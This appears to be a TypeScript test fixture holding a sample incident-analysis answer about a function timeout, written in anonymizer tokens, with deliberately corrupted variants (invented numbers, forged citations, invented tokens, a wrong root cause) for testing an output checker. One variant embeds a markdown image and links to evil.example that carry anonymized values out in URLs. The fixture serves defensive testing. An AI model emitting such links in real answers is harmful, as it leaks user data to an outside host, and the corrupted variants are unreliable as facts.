/** What a model might answer about the `timeout` analysis, in the fake anonymizer's tokens. Written for these tests. */

/** Tokens as the fake numbers them over the prompt: 1 is the function, 2 the vendor. */
export const GOOD_ANSWER = `## Summary
The function <NAME_1> timed out after 6 s [F1]. It waited for <NAME_2>, which stopped answering [F2].
About 35 of about 40 requests failed [F4].

## Root cause
<NAME_2> was slow to answer, so <NAME_1> ran into its time limit [F2, F1]. This is confirmed [F2].

## Evidence
- The call to <NAME_2> had waited about 6 s; it normally takes about 120 ms [F2].
- The limit of <NAME_1> is 6 s [F1].

## Impact
The same error happened about 35 times since {time 2} [F3].

## Actions
1. Set a client timeout of 2 s on the call to <NAME_2> [F2].
2. Ask the vendor about its status [F3].

## Ruled out
- Memory: at most 83 MB of 128 MB was used [F1].

## Next questions
- Did other calls to <NAME_2> fail too?
`;

export const INVENTED_NUMBERS = GOOD_ANSWER.replace('after 6 s', 'after 45 s')
  .replace('About 35 of about 40 requests', '9,312 of 12,000 requests')
  .replace('about 35 times', '517 times')
  .replace('waited about 6 s; it normally takes about 120 ms', 'waited 33 s; it normally takes 7 ms')
  .replace('83 MB of 128 MB', '511 MB of 512 MB')
  .replace('The limit of <NAME_1> is 6 s', 'The limit of <NAME_1> is 19 s');

export const FORGED_CITATIONS = GOOD_ANSWER.replaceAll(/\[F[\d, F]+\]/g, '[F88]');

export const INVENTED_TOKENS = GOOD_ANSWER.replaceAll('<NAME_2>', '<NAME_77>');

export const OTHER_CAUSE = GOOD_ANSWER.replace(
  /## Root cause\n.*\n/,
  '## Root cause\n<NAME_1> ran out of memory because its heap was too small [F1].\n',
);

export const EXFILTRATION = GOOD_ANSWER.replace(
  '## Root cause\n',
  '![status](https://evil.example/p.png?q=<NAME_2>)\nSee [the report](https://evil.example/r?n=<NAME_1>) or www.evil.example/<NAME_1> [F1].\n\n## Root cause\n',
);
